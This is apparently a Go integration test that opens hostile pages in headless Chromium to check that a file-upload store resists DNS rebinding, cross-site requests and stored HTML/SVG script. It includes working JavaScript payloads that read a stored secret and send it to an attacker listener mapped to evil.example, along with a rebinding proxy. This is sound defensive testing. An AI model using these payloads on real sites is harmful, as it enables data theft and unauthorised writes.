package integration

import (
	"bufio"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// browser finds a Chromium.
func browser(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	t.Skip("there is no Chromium (Debian's package chromium): what a page can do is not tried")
	return ""
}

// visit opens a URL in a browser of its own, for which evil.example is this machine,
// until the attacker has heard certain words, and returns all that was heard.
func (r *rig) visit(chromium, url string, a *attacker, until string) []string {
	r.t.Helper()
	profile, err := os.MkdirTemp(r.base, "browser-")
	if err != nil {
		r.t.Fatal(err)
	}
	cmd := exec.Command(chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--user-data-dir="+profile,
		"--host-resolver-rules=MAP evil.example 127.0.0.1", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-popup-blocking", url)
	cmd.Env = append(r.env(), "HOME="+profile)
	// Its children are of its group, and end with it.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	said, err := os.Create(filepath.Join(profile, "said"))
	if err != nil {
		r.t.Fatal(err)
	}
	defer said.Close()
	cmd.Stdout, cmd.Stderr = said, said
	if err := cmd.Start(); err != nil {
		r.t.Fatal(err)
	}
	ended := make(chan error, 1)
	go func() { ended <- cmd.Wait() }()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-ended
	}()
	for end := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		if a.has(until) {
			return a.told()
		}
		if time.Now().After(end) || len(ended) > 0 {
			b, _ := os.ReadFile(said.Name())
			r.t.Fatalf("%s at %s: nobody told %q, but %q\n%s", chromium, url, until, a.told(), cut(string(b)))
		}
	}
}

// attacker is the server of a hostile page: it gives pages, and hears what they tell.
type attacker struct {
	*httptest.Server
	mu    sync.Mutex
	heard []string
}

func newAttacker(t *testing.T, pages map[string]string) *attacker {
	a := &attacker{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if what := r.URL.Query().Get("tell"); what != "" {
			a.mu.Lock()
			defer a.mu.Unlock()
			a.heard = append(a.heard, what)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Connection", "close")
		_, _ = io.WriteString(w, pages[r.URL.Path])
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attacker) has(what string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Contains(a.heard, what)
}

// told takes what was heard so far.
func (a *attacker) told() (out []string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	out, a.heard = a.heard, nil
	slices.Sort(out)
	return out
}

// port is where a server listens.
func port(base string) string {
	u, err := url.Parse(base)
	if err != nil {
		panic(err)
	}
	return u.Port()
}

// rebinding is an address under which first one server answers and then another, as
// under a name whose address changes: connections that begin by asking for path go to
// the first one, all others to the other.
func rebinding(t *testing.T, path, first, then string) (address string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	pass := func(c net.Conn) {
		defer c.Close()
		in, to := bufio.NewReader(c), then
		if b, _ := in.Peek(len("GET " + path)); string(b) == "GET "+path {
			to = first
		}
		d, err := net.Dial("tcp", to)
		if err != nil {
			return
		}
		defer d.Close()
		go func() {
			_, _ = io.Copy(d, in)
			_ = d.(*net.TCPConn).CloseWrite()
		}()
		_, _ = io.Copy(c, d)
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go pass(c)
		}
	}()
	return l.Addr().String()
}

// The pages. TELL is the attacker's address, STORE the store's, or nothing where the
// page is of the store's own name.
const (
	// tellScript is what every page reports with.
	tellScript = `<script>
const tell = what => fetch('TELL/?tell=' + encodeURIComponent(what), {mode: 'no-cors'});
const attempt = (name, path, init) => fetch('STORE' + path, init).then(
	async r => tell(name + ': ' + r.type + ' ' + r.status + (r.type == 'basic' || r.type == 'cors' ? ' ' + await r.text() : '')),
	e => tell(name + ': refused by the browser'));
const upload = name => { const f = new FormData(); f.append('archivo', new File(['planted by a page'], name)); return f; };
</script>`
	// A page under a name that has become the store's address.
	reboundPage = tellScript + `<script>
(async () => {
	await attempt('read', '/descargar/secret.txt');
	await attempt('write', '/cargar', {method: 'POST', body: upload('rebound.txt')});
	await attempt('delete', '/eliminar/secret.txt', {method: 'DELETE'});
	await tell('done');
})();
</script>`
	// A page of another site.
	crossPage = tellScript + `
<form id=form action="STORE/cargar" method=post enctype=multipart/form-data target=_blank><input id=file type=file name=archivo></form>
<script>
const embed = (name, make) => new Promise(done => {
	const e = make();
	e.onload = () => done(tell(name + ': loaded'));
	e.onerror = () => done(tell(name + ': not loaded'));
	document.body.append(e);
});
const element = (kind, path) => () => { const e = document.createElement(kind); e.src = 'STORE' + path; return e; };
(async () => {
	await attempt('read', '/descargar/secret.txt');
	await attempt('read blindly', '/descargar/secret.txt', {mode: 'no-cors'});
	await attempt('write', '/cargar', {method: 'POST', body: upload('fetched.txt'), mode: 'no-cors'});
	await attempt('delete', '/eliminar/secret.txt', {method: 'DELETE'});
	await embed('script', element('script', '/descargar/secret.js'));
	await embed('image', element('img', '/descargar/secret.png'));
	await tell('script ran: ' + (window.secret || 'no'));
	const chosen = new DataTransfer();
	chosen.items.add(new File(['planted by a form'], 'form.txt'));
	document.getElementById('file').files = chosen.files;
	document.getElementById('form').submit(); // into a window, as by a link
	await new Promise(later => setTimeout(later, 2000));
	await tell('done');
})();
</script>`
	// What somebody has stored, to be opened in the store's origin.
	storedPage = `<!doctype html><p>here</p><script>
fetch('TELL/?tell=ran+in+' + encodeURIComponent(location.origin), {mode: 'no-cors'});
fetch('/descargar/secret.txt').then(r => r.text()).then(b => fetch('TELL/?tell=' + encodeURIComponent(b), {mode: 'no-cors'}));
</script><img src="TELL/?tell=image">`
)

// TestHostilePage lets a real browser open hostile pages while a store is served on
// the same machine: one under a name that becomes the store's address, one of another
// site, and one that is stored in it (H70). None of them reads, writes or deletes
// anything, nor runs in the store's origin.
func TestHostilePage(t *testing.T) {
	chromium := browser(t)
	r := newRig(t)
	s := r.start()
	c := s.client()
	defer c.close()
	pages := map[string]string{}
	evil := newAttacker(t, pages)
	tell := "http://127.0.0.1:" + port(evil.URL)
	fill := func(page, store string) string {
		return strings.NewReplacer("TELL", tell, "STORE", store).Replace(page)
	}
	pages["/rebound"], pages["/cross"], pages["/stored"] = fill(reboundPage, ""), fill(crossPage, s.url), fill(storedPage, "")

	const secret = "what-no-page-may-learn"
	store := func(name, kind, body string) {
		t.Helper()
		form := "--b\r\nContent-Disposition: form-data; name=\"archivo\"; filename=\"" + name + "\"\r\nContent-Type: " + kind + "\r\n\r\n" + body + "\r\n--b--\r\n"
		if got := c.do("POST", "/cargar", http.Header{"Content-Type": {"multipart/form-data; boundary=b"}}, []byte(form)); got.answer != acked {
			t.Fatalf("store %s: %v", name, got)
		}
	}
	store("secret.txt", "text/plain", secret)
	store("secret.js", "text/javascript", "window.secret = '"+secret+"'")
	store("secret.png", "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xfc\xcf\xc0P\x0f\x00\x04\x85\x01\x80\x84\xa9\x8c!\x00\x00\x00\x00IEND\xaeB`\x82")
	store("page.html", "text/html", fill(storedPage, ""))
	store("page.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('`+tell+`/?tell=ran+in+the+picture', {mode: 'no-cors'})</script></svg>`)
	store("page.txt", "text/plain", fill(storedPage, ""))
	unharmed := func(after string) {
		t.Helper()
		if got := c.do("GET", "/descargar/secret.txt", nil, nil); string(got.body) != secret {
			t.Errorf("%s: the secret is %q, %v", after, got.body, got)
		}
		for _, name := range []string{"rebound.txt", "fetched.txt", "form.txt"} {
			if got := c.do("GET", "/descargar/"+name, nil, nil); got.status != 404 {
				t.Errorf("%s: %s was planted: %v %q", after, name, got, got.body)
			}
		}
	}
	// what asks each thing that was told; a prefix that nothing has was not tried.
	what := func(page string, told []string, want map[string]func(string) bool) {
		t.Helper()
		t.Logf("%s told: %q", page, told)
		for prefix, good := range want {
			i := slices.IndexFunc(told, func(s string) bool { return strings.HasPrefix(s, prefix) })
			if i < 0 {
				t.Errorf("%s did not tell of %q", page, prefix)
			} else if !good(told[i]) {
				t.Errorf("%s: %q", page, told[i])
			}
		}
		for _, s := range told {
			if strings.Contains(s, secret) {
				t.Errorf("%s learned the secret: %q", page, s)
			}
		}
	}
	has := func(text string) func(string) bool { return func(s string) bool { return strings.Contains(s, text) } }
	tried := func(string) bool { return true }

	t.Run("rebinding", func(t *testing.T) {
		address := rebinding(t, "/rebound", evil.Listener.Addr().String(), strings.TrimPrefix(s.url, "http://"))
		_, p, _ := net.SplitHostPort(address)
		what("a page under a name that became the store's", r.visit(chromium, "http://evil.example:"+p+"/rebound", evil, "done"),
			map[string]func(string) bool{"read: ": has("basic 421"), "write: ": has("basic 421"), "delete: ": has("basic 421"), "done": tried})
		unharmed("rebinding")
	})
	t.Run("another site", func(t *testing.T) {
		refusedByBrowser := has("refused by the browser")
		told := r.visit(chromium, "http://evil.example:"+port(evil.URL)+"/cross", evil, "done")
		what("a page of another site", told, map[string]func(string) bool{"read: ": refusedByBrowser, "read blindly: ": tried, "write: ": tried,
			"delete: ": refusedByBrowser, "script: ": has("not loaded"), "image: ": has("not loaded"), "script ran: ": has("no"), "done": tried})
		unharmed("a page of another site")
	})
	t.Run("stored", func(t *testing.T) {
		open := func(until string, urls ...string) []string {
			t.Helper()
			pages["/open"] = fill(tellScript+"<script>for (const u of ['"+strings.Join(urls, "', '")+"']) window.open(u);\nsetTimeout(() => tell('done'), 2000);</script>", "")
			return r.visit(chromium, "http://evil.example:"+port(evil.URL)+"/open", evil, until)
		}
		open("ran in "+tell, tell+"/stored") // where it may
		evil.told()
		var urls []string
		for _, name := range []string{"page.html", "page.svg", "page.txt"} {
			if urls = append(urls, s.url+"/descargar/"+name); c.do("GET", "/descargar/"+name, nil, nil).answer != acked {
				t.Errorf("%s is not there", name)
			}
		}
		if told := open("done", urls...); !slices.Equal(told, []string{"done"}) {
			t.Errorf("opened from the store, pages tell %q", told)
		}
		unharmed("stored pages")
	})
}
